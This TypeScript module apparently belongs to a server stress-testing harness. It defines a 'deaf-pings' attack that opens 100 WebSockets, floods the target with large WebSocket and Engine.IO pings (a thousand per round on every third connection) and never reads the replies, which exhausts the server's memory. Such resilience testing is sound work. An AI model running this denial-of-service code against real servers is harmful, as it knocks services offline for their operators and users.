/** WebSockets that send pings, of the kind whose answers have many bytes, and never read these. */
import type { Attack } from '../attack.ts';
import { connectGuest } from '../connections.ts';
import { keepDoing, within } from '../keep-doing.ts';
import { frameOf, framesOf, opcodes, type RawGuest, repeated } from '../raw-guest.ts';
import { createTally } from '../tally.ts';

const guests = 100;
const ping = frameOf('p'.repeat(125), opcodes.ping);
/** Just below what ends a connection; every third guest is beyond it and comes back at once. */
const patient = Buffer.concat([repeated(9, ping), framesOf(['3'])]);
const greedy = Buffer.concat([repeated(1000, ping), framesOf(['2', '2probe', '3', '6'])]);

export const deafPings: Attack = {
  name: 'deaf-pings',
  what: `${guests} WebSockets that send pings of WebSocket and of Engine.IO and never read`,
  async attack(target, until) {
    const tally = createTally();
    const open = new Map<number, RawGuest>();
    await keepDoing({
      ...{ until, tally, workers: guests },
      async work(worker) {
        let guest = open.get(worker);
        if (guest === undefined || !guest.isOpen()) {
          guest = await connectGuest(target, { isDeaf: true });
          open.set(worker, guest);
          tally.count('WebSockets');
        }
        const isGreedy = worker % 3 === 0;
        guest.write(isGreedy ? greedy : patient);
        tally.count('pings', isGreedy ? 1000 : 9);
        await within(1000, guest.closed);
      },
    });
    return `${tally}`;
  },
};
